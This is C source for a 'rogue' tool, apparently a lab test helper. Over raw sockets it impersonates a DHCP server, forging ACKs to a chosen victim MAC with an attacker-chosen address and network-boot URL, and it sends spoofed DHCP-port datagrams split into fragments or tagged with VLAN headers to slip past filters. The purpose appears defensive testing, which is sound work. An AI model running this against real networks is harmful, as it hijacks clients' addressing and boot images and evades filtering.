/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * A neighbour that plays the DHCP server, by frames of its own making on the interface IF:
 *
 *   rogue answer IF MAC IP VICTIM ADDRESS SERVER URL PORT…  whenever VICTIM (a MAC) asks for its address, an ACK from each
 *                                          PORT at once: ADDRESS, in the name of SERVER, and URL to boot from
 *   rogue send IF MAC IP TO TO_IP FROM:TO…  a datagram from and to each of these ports; IPv6 from 547 or to 546.
 *                                          FROM/TO: in two fragments, of which IPv6's first ends before the ports.
 *                                          FROM^TO, FROM~TO: with a priority tag (VLAN 0) of 802.1Q, of 802.1ad
 *   rogue hear IF SECONDS                  says which of these datagrams come by, or go out: "FROM:TO", one a line;
 *                                          FROM/TO of the first fragment of IPv4, "fragment" of the second of IPv6
 *
 * MAC and IP are what it says it is itself. "ready" when it listens.
 */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <poll.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum {
	ETHER = 14, /* header sizes */
	IP4 = 20,
	IP6 = 40,
	UDP = 8,
	BOOTP = 240, /* up to the options, RFC 2131 section 2 */
	FRAME = 1514,
	PIECE = 8, /* the unit of fragments, and the size of IPv6's headers for and before them */
	TAG = 4,
	PROVIDER_TAG = 0x88a8, /* 802.1ad */
	DHCPV6 = 547,
	DHCPV6_CLIENT = 546,
	PROTO_UDP = 17,
	PROTO_FRAGMENT = 44,
	PROTO_OPTIONS = 60,
};

static const char mark[] = "rogue datagram";

struct self {
	int fd;
	uint8_t mac[6], ip[4];
};

struct ports {
	unsigned from, to;
	enum { WHOLE = ':', IN_PIECES = '/', TAGGED = '^', TAGGED_AD = '~' } how;
};

static void put16(uint8_t *p, unsigned v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

static unsigned be16(const uint8_t *p)
{
	return (unsigned)p[0] << 8 | p[1];
}

static void read_mac(const char *text, uint8_t ret[6])
{
	if (sscanf(text, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", ret, ret + 1, ret + 2, ret + 3, ret + 4,
		    ret + 5) != 6)
		exit(2);
}

static void read_ip(const char *text, uint8_t ret[4])
{
	if (inet_pton(AF_INET, text, ret) != 1)
		exit(2);
}

static int open_raw(const char *ifname)
{
	struct sockaddr_ll at = {.sll_family = AF_PACKET,
		.sll_protocol = htons(ETH_P_ALL),
		.sll_ifindex = (int)if_nametoindex(ifname)};
	int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));

	if (fd < 0 || bind(fd, (struct sockaddr *)&at, sizeof at) < 0) {
		perror(ifname);
		exit(1);
	}
	return fd;
}

static struct self self_of(char **argv)
{
	struct self s = {.fd = open_raw(argv[2])};

	read_mac(argv[3], s.mac);
	read_ip(argv[4], s.ip);
	return s;
}

static unsigned header_sum(const uint8_t *p)
{
	uint32_t sum = 0;

	for (int i = 0; i < IP4; i += 2)
		sum += be16(p + i);
	sum = (sum >> 16) + (sum & 0xffff);
	return ~(sum + (sum >> 16)) & 0xffff;
}

static void send_frame(const struct self *s, const uint8_t *f, size_t len)
{
	if (send(s->fd, f, len, 0) < 0)
		perror("rogue: send");
}

/* `len` bytes of the datagram in `f` from `at` on: a multiple of 8 */
static void send_piece_v4(const struct self *s, const uint8_t *f, size_t at, size_t len, bool more)
{
	uint8_t piece[FRAME], *ip = piece + ETHER;

	memcpy(piece, f, ETHER + IP4);
	memcpy(ip + IP4, f + ETHER + IP4 + at, len);
	put16(ip + 2, (unsigned)(IP4 + len));
	put16(ip + 6, (unsigned)(at / PIECE) | (more ? 0x2000 : 0));
	put16(ip + 10, 0);
	put16(ip + 10, header_sum(ip));
	send_frame(s, piece, ETHER + IP4 + len);
}

static void send_tagged(const struct self *s, const uint8_t *f, size_t len, bool ad)
{
	uint8_t tagged[FRAME + TAG];

	memcpy(tagged, f, 12);
	put16(tagged + 12, ad ? PROVIDER_TAG : ETHERTYPE_VLAN);
	put16(tagged + 14, 0);
	memcpy(tagged + 12 + TAG, f + 12, len - 12);
	send_frame(s, tagged, len + TAG);
}

/* The payload is in its place; without a UDP checksum, which IPv4 allows. */
static void send_v4(const struct self *s, uint8_t *f, const uint8_t to[6], const uint8_t to_ip[4],
	struct ports p, size_t n)
{
	uint8_t *ip = f + ETHER, *udp = ip + IP4;

	memset(f, 0, ETHER + IP4 + UDP);
	memcpy(f, to, 6);
	memcpy(f + 6, s->mac, 6);
	put16(f + 12, ETHERTYPE_IP);
	ip[0] = 0x45;
	put16(ip + 2, (unsigned)(IP4 + UDP + n));
	ip[8] = 64;
	ip[9] = PROTO_UDP;
	memcpy(ip + 12, s->ip, 4);
	memcpy(ip + 16, to_ip, 4);
	put16(ip + 10, header_sum(ip));
	put16(udp, p.from);
	put16(udp + 2, p.to);
	put16(udp + 4, (unsigned)(UDP + n));
	if (p.how == IN_PIECES) {
		put16(ip + 4, p.from ^ p.to); /* one datagram's */
		send_piece_v4(s, f, 0, UDP, true);
		send_piece_v4(s, f, UDP, n, false);
	} else if (p.how != WHOLE) {
		send_tagged(s, f, ETHER + IP4 + UDP + n, p.how == TAGGED_AD);
	} else {
		send_frame(s, f, ETHER + IP4 + UDP + n);
	}
}

/* RFC 8200 section 8.1 */
static void sum_v6(const uint8_t *ip, uint8_t *udp, size_t len)
{
	uint32_t sum = PROTO_UDP + (uint32_t)len;

	for (int i = 8; i < IP6; i += 2)
		sum += be16(ip + i);
	for (size_t i = 0; i < len; i++)
		sum += i & 1 ? udp[i] : (uint32_t)udp[i] << 8;
	while (sum >> 16)
		sum = (sum >> 16) + (sum & 0xffff);
	put16(udp + 6, ~sum & 0xffff);
}

/* What is behind the IPv6 header of `f` as the second of two fragments; the first is options that say nothing. */
static void send_pieces_v6(const struct self *s, const uint8_t *f, size_t len)
{
	static const uint8_t header[PIECE] = {PROTO_OPTIONS, 0, 0, 1, 0, 0, 0, 1},
			     options[PIECE] = {PROTO_UDP, 0, 1, 4, 0, 0, 0, 0};
	uint8_t piece[FRAME], *ip = piece + ETHER;

	memcpy(piece, f, ETHER + IP6);
	ip[6] = PROTO_FRAGMENT;
	put16(ip + 4, 2 * PIECE);
	memcpy(ip + IP6, header, PIECE);
	memcpy(ip + IP6 + PIECE, options, PIECE);
	send_frame(s, piece, ETHER + IP6 + 2 * PIECE);
	put16(ip + 4, (unsigned)(PIECE + len));
	put16(ip + IP6 + 2, PIECE);
	memcpy(ip + IP6 + PIECE, f + ETHER + IP6, len);
	send_frame(s, piece, ETHER + IP6 + PIECE + len);
}

/* To all nodes. */
static void send_v6(const struct self *s, struct ports p)
{
	static const uint8_t all[6] = {0x33, 0x33, 0, 0, 0, 1};
	uint8_t f[FRAME] = {0}, *ip = f + ETHER, *udp = ip + IP6;

	memcpy(f, all, 6);
	memcpy(f + 6, s->mac, 6);
	put16(f + 12, ETHERTYPE_IPV6);
	ip[0] = 0x60;
	put16(ip + 4, UDP + sizeof mark);
	ip[6] = PROTO_UDP;
	ip[7] = 255;
	inet_pton(AF_INET6, "fe80::99", ip + 8);
	inet_pton(AF_INET6, "ff02::1", ip + 24);
	put16(udp, p.from);
	put16(udp + 2, p.to);
	put16(udp + 4, UDP + sizeof mark);
	memcpy(udp + UDP, mark, sizeof mark);
	sum_v6(ip, udp, UDP + sizeof mark);
	if (p.how == IN_PIECES)
		send_pieces_v6(s, f, UDP + sizeof mark);
	else if (p.how != WHOLE)
		send_tagged(s, f, ETHER + IP6 + UDP + sizeof mark, p.how == TAGGED_AD);
	else
		send_frame(s, f, ETHER + IP6 + UDP + sizeof mark);
}

/* The payload of an IPv4 or IPv6 datagram, or NULL; `*ret_udp` is its UDP header. */
static const uint8_t *payload(const uint8_t *f, size_t len, const uint8_t **ret_udp, size_t *ret_n)
{
	const uint8_t *ip = f + ETHER;
	size_t header;

	if (len < ETHER + IP4)
		return NULL;
	if (be16(f + 12) == ETHERTYPE_IP && ip[9] == PROTO_UDP)
		header = (size_t)(ip[0] & 15) * 4;
	else if (be16(f + 12) == ETHERTYPE_IPV6 && ip[6] == PROTO_UDP)
		header = IP6;
	else
		return NULL;
	if (len < ETHER + header + UDP)
		return NULL;
	*ret_udp = ip + header;
	*ret_n = len - ETHER - header - UDP;
	return *ret_udp + UDP;
}

static uint8_t *option(uint8_t *o, uint8_t code, const void *value, size_t len)
{
	o[0] = code;
	o[1] = (uint8_t)len;
	memcpy(o + 2, value, len);
	return o + 2 + len;
}

/* To whom asks with the BOOTP message `q`. 175.1 is iPXE's: this one before all others. */
static size_t make_ack(
	uint8_t *a, const uint8_t *q, const char *address, const char *server, const char *url)
{
	static const uint8_t first[] = {1, 1, 127, 176, 1, 1}, lease[] = {0, 0, 2, 88},
			     mask[] = {255, 255, 255, 0};
	uint8_t ip[4], *o = a + BOOTP;

	memset(a, 0, BOOTP);
	memcpy(a, q, BOOTP);
	a[0] = 2;
	a[10] = 0x80; /* broadcast */
	read_ip(address, a + 16);
	snprintf((char *)a + 108, 128, "%s", url);
	*o++ = 53, *o++ = 1, *o++ = 5;
	read_ip(server, ip);
	o = option(o, 54, ip, 4);
	o = option(o, 51, lease, 4);
	o = option(o, 1, mask, 4);
	o = option(o, 67, url, strlen(url));
	o = option(o, 175, first, sizeof first);
	*o++ = 255;
	return (size_t)(o - a) > 300 ? (size_t)(o - a) : 300;
}

/* Is it this client's REQUEST? Its message type comes first with all that matter here. */
static int asks(const uint8_t *q, size_t n, const uint8_t *udp, const uint8_t client[6])
{
	return n > BOOTP + 3 && be16(udp + 2) == 67 && q[0] == 1 && !memcmp(q + 28, client, 6) &&
		q[BOOTP] == 53 && q[BOOTP + 2] == 3;
}

static int answer(int argc, char **argv)
{
	static const uint8_t all[6] = {255, 255, 255, 255, 255, 255},
			     all_ip[4] = {255, 255, 255, 255};
	const struct self s = self_of(argv);
	uint8_t victim[6], in[FRAME], out[FRAME] = {0};
	const uint8_t *udp, *q;
	size_t n;
	ssize_t len;

	read_mac(argv[5], victim);
	puts("ready");
	while ((len = recv(s.fd, in, sizeof in, 0)) > 0) {
		if (!(q = payload(in, (size_t)len, &udp, &n)) || !asks(q, n, udp, victim))
			continue;
		n = make_ack(out + ETHER + IP4 + UDP, q, argv[6], argv[7], argv[8]);
		for (int i = 9; i < argc; i++)
			send_v4(&s, out, all, all_ip,
				(struct ports){(unsigned)atoi(argv[i]), 68, WHOLE}, n);
		puts("answered");
	}
	return 1;
}

static int send_all(int argc, char **argv)
{
	const struct self s = self_of(argv);
	uint8_t to[6], to_ip[4], f[FRAME] = {0};

	read_mac(argv[5], to);
	read_ip(argv[6], to_ip);
	for (int i = 7; i < argc; i++) {
		struct ports p;
		char how;

		if (sscanf(argv[i], "%u%c%u", &p.from, &how, &p.to) != 3)
			exit(2);
		p.how = how;
		memcpy(f + ETHER + IP4 + UDP, mark, sizeof mark);
		if (p.from == DHCPV6 || p.to == DHCPV6_CLIENT)
			send_v6(&s, p);
		else
			send_v4(&s, f, to, to_ip, p, sizeof mark);
	}
	return 0;
}

/* Of IPv4 the first, which has the ports; of IPv6 the second. Nobody else sends fragments in a lab. */
static bool tell_fragment(const uint8_t *f, size_t len)
{
	const uint8_t *ip = f + ETHER;

	if (len >= ETHER + IP6 + PIECE && be16(f + 12) == ETHERTYPE_IPV6 &&
		ip[6] == PROTO_FRAGMENT && be16(ip + IP6 + 2) & 0xfff8)
		return puts("fragment");
	if (len < ETHER + IP4 + UDP || be16(f + 12) != ETHERTYPE_IP || be16(ip + 6) != 0x2000)
		return false;
	return printf("%u/%u\n", be16(ip + IP4), be16(ip + IP4 + 2));
}

static int hear(const char *ifname, int seconds)
{
	struct pollfd p = {.fd = open_raw(ifname), .events = POLLIN};
	time_t end = time(NULL) + seconds;
	const uint8_t *udp, *text;
	uint8_t in[FRAME];
	size_t n;

	puts("ready");
	while (time(NULL) < end) {
		ssize_t len = poll(&p, 1, 200) > 0 ? recv(p.fd, in, sizeof in, 0) : 0;

		if (len > 0 && !tell_fragment(in, (size_t)len) &&
			(text = payload(in, (size_t)len, &udp, &n)) && n >= sizeof mark &&
			!memcmp(text, mark, sizeof mark))
			printf("%u:%u\n", be16(udp), be16(udp + 2));
	}
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc > 9 && !strcmp(argv[1], "answer"))
		return answer(argc, argv);
	if (argc > 7 && !strcmp(argv[1], "send"))
		return send_all(argc, argv);
	if (argc == 4 && !strcmp(argv[1], "hear"))
		return hear(argv[2], atoi(argv[3]));
	fputs("rogue answer|send|hear …: see rogue.c\n", stderr);
	return 2;
}
